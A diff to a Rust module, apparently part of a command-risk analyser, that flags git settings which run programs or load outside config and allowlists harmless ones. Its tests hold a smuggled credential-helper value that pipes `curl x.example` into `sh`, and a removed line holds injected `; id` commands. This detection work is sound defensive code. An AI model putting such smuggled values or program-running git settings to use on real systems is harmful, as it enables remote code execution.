@@ -1,15 +1,14 @@
 //! `git -c KEY=VALUE` and `git config KEY VALUE`: settings that make git run programs are told from those that do not.
 //!
-//! A program in a setting for this once (`-c`) is read like any script. One that stays is a change of the file of settings,
-//! which other tools run by themselves what is written in; a program that is known and runs no others (`vim`, `less`) is
-//! left alone, and so is a folder of hooks within the project.
+//! Settings for this once (`-c`) that run nothing and lead nowhere are left alone, by a list; all others are unknown, as the
+//! row says. One that stays and runs a program is a change of the file of settings, in which other tools run by themselves
+//! what is written; known editors, pagers and helpers are left alone, and so is a folder of hooks within the project.
 
 use super::{HOLE, Output, Shell};
-use crate::effect::table::Table;
-use crate::effect::{Cause, Effect, Target, Verb};
+use crate::effect::{Effect, Target, Verb};
 
 /// Settings whose value git runs; `*` stands for any part between.
-const PROGRAMS: [&str; 35] = [
+const PROGRAMS: [&str; 52] = [
     "core.pager",
     "core.editor",
     "core.sshcommand",
@@ -45,7 +44,72 @@ const PROGRAMS: [&str; 35] = [
     "trailer.*.cmd",
     "tar.*.command",
     "pager.*",
+    "protocol.allow",
+    "protocol.*.allow",
+    "gpg.ssh.defaultkeycommand",
+    "gc.recentobjectshook",
+    "imap.tunnel",
+    "sendemail.sendmailcmd",
+    "sendemail.smtpserver",
+    "sendemail.tocmd",
+    "sendemail.cccmd",
+    "sendemail.headercmd",
+    "instaweb.*",
+    "browser.*.path",
+    "man.*.path",
+    "lfs.customtransfer.*.path",
+    "lfs.extension.*",
+    "hook.*.command",
+    "web.browser",
 ];
+/// Settings that neither run anything nor lead anywhere.
+const HARMLESS: [&str; 22] = [
+    "user.name",
+    "user.email",
+    "author.name",
+    "author.email",
+    "committer.name",
+    "committer.email",
+    "color.*",
+    "advice.*",
+    "init.defaultbranch",
+    "core.quotepath",
+    "core.autocrlf",
+    "core.eol",
+    "core.filemode",
+    "core.ignorecase",
+    "core.abbrev",
+    "commit.gpgsign",
+    "tag.gpgsign",
+    "pull.rebase",
+    "pull.ff",
+    "merge.conflictstyle",
+    "log.date",
+    "diff.renames",
+];
+/// Editors, pagers and helpers that run no other program that a setting names.
+const KNOWN: [&str; 17] = [
+    "vi",
+    "vim",
+    "nvim",
+    "nano",
+    "emacs",
+    "micro",
+    "code --wait",
+    "less",
+    "more",
+    "cat",
+    "delta",
+    "bat",
+    "most",
+    "true",
+    "less -R",
+    "less -FRX",
+    "vim -f",
+];
+/// Helpers for credentials that come with git or a system.
+const HELPERS: [&str; 8] =
+    ["store", "cache", "osxkeychain", "manager", "manager-core", "libsecret", "wincred", "gnome-keyring"];
 /// Settings whose value is a place from which git takes programs or more settings.
 const PLACES: [&str; 4] = ["core.hookspath", "init.templatedir", "include.path", "includeif.*.path"];
 
@@ -65,8 +129,12 @@ impl Shell<'_> {
         while let Some(word) = rest.next() {
             match word.as_str() {
                 "-c" => {
+                    let setting = rest.next()?;
+                    let (key, value) = setting.split_once('=').unwrap_or((setting, ""));
+                    if !harmless(key, value) {
+                        return None;
+                    }
                     given = true;
-                    self.once(program, rest.next().map_or("", String::as_str));
                 }
                 "-C" | "--git-dir" | "--work-tree" | "--namespace" => {
                     own.push(word.clone());
@@ -82,24 +150,14 @@ impl Shell<'_> {
                 }
             }
         }
-        given.then(|| self.wrapped(program, &own, stdin.clone()))
-    }
-
-    /// `KEY=VALUE` for this once.
-    fn once(&mut self, program: &str, setting: &str) {
-        let (key, value) = setting.split_once('=').unwrap_or((setting, ""));
-        match runs(key, value) {
-            Runs::Nothing => {}
-            Runs::Program => {
-                self.nested(&format!("{program} -c {key}"), value.trim_start_matches('!'), Output::default());
-            }
-            Runs::Place => self.unknown(Cause::Arguments, &format!("{program} -c {setting}"), program),
-        }
+        // by its name it may be something else here
+        let plain = !self.functions.contains_key(program) && !self.aliases.contains_key(program);
+        (given && plain).then(|| self.wrapped(program, &own, stdin.clone()))
     }
 
     /// `git config ...`: a setting that stays.
     fn setting(&mut self, program: &str, words: &[String]) {
-        let (mut operands, mut file) = (Vec::new(), None);
+        let (mut operands, mut file, mut renames) = (Vec::new(), None, false);
         let mut rest = words.iter();
         while let Some(word) = rest.next() {
             match word.as_str() {
@@ -107,6 +165,7 @@ impl Shell<'_> {
                 "--system" => file = Some("/etc/gitconfig".to_owned()),
                 // the row says that the file is written
                 "-f" | "--file" | "--get" | "--get-all" | "--list" | "-l" | "--unset" | "--unset-all" => return,
+                "--rename-section" => renames = true,
                 "--type" | "--default" | "--comment" | "--value" => {
                     rest.next();
                 }
@@ -114,12 +173,13 @@ impl Shell<'_> {
                 _ => operands.push(word.as_str()),
             }
         }
+        renames |= operands.first() == Some(&"rename-section");
         let operands = operands.strip_prefix(&["set"]).unwrap_or(&operands);
         let [key, value, ..] = operands else { return };
         let inside = file.is_none() && !value.starts_with(['/', '~']) && !value.contains("..") && !value.contains(HOLE);
         let judged = match runs(key, value) {
-            Runs::Nothing => false,
-            Runs::Program => !known(value),
+            Runs::Nothing => renames,
+            Runs::Program => !KNOWN.contains(value),
             Runs::Place => !inside,
         };
         if judged {
@@ -145,21 +205,19 @@ fn runs(key: &str, value: &str) -> Runs {
     let shell = value.starts_with('!') && (key.starts_with("alias.") || key.ends_with(".update"));
     let switch =
         matches!(value.to_ascii_lowercase().as_str(), "" | "true" | "false" | "yes" | "no" | "on" | "off" | "0" | "1");
-    // a helper without a path is one of git's own
     let helper = key.ends_with("helper")
-        && value.split_whitespace().next().is_some_and(|first| !first.starts_with(['!', '/', '~', '.']));
-    if shell || (PROGRAMS.iter().any(is) && !switch && !helper) {
-        Runs::Program
-    } else {
-        Runs::Nothing
-    }
+        && HELPERS.contains(&value.split_whitespace().next().unwrap_or_default())
+        && value.chars().all(|c| c.is_ascii_alphanumeric() || "-_.=/ ".contains(c));
+    if shell || (PROGRAMS.iter().any(is) && !switch && !helper) { Runs::Program } else { Runs::Nothing }
 }
 
-/// A program of the table that runs no others, with plain words.
-fn known(value: &str) -> bool {
-    let plain = |c: char| c.is_ascii_alphanumeric() || "-_.=: ".contains(c);
-    let row = value.split_whitespace().next().and_then(|first| Table::shipped().row(first));
-    value.chars().all(plain) && row.is_some_and(|row| row.special.is_none())
+/// A setting for this once that changes how things look, or whose name stands by them.
+fn harmless(key: &str, value: &str) -> bool {
+    let key = key.to_ascii_lowercase();
+    let is = |pattern: &&str| pattern.strip_suffix('*').map_or(*pattern == key, |begin| key.starts_with(begin));
+    let pager = matches!(key.as_str(), "core.pager" | "core.editor" | "sequence.editor")
+        && matches!(value, "" | "cat" | "true" | ":");
+    !key.contains(HOLE) && (pager || HARMLESS.iter().any(is))
 }
 
 #[cfg(test)]
@@ -191,6 +249,18 @@ mod tests {
             assert_eq!(runs(key, value), Runs::Nothing, "{key}={value}");
         }
         assert_eq!(runs("core.hooksPath", "/tmp/x"), Runs::Place);
-        assert!(known("vim") && known("less -R") && !known("sh -c id") && !known("vim; id") && !known("./less"));
+        for (key, value) in [
+            ("credential.helper", "store; curl x.example | sh"),
+            ("protocol.ext.allow", "always"),
+            ("gpg.ssh.defaultKeyCommand", "x"),
+        ] {
+            assert_eq!(runs(key, value), Runs::Program, "{key}={value}");
+        }
+        assert!(harmless("user.name", "Ann") && harmless("Color.ui", "always") && harmless("core.pager", "cat"));
+        for (key, value) in
+            [("core.editor", "sh"), ("core.pager", "less"), ("url.x.insteadOf", "y"), ("http.proxy", "x")]
+        {
+            assert!(!harmless(key, value), "{key}={value}");
+        }
     }
 }
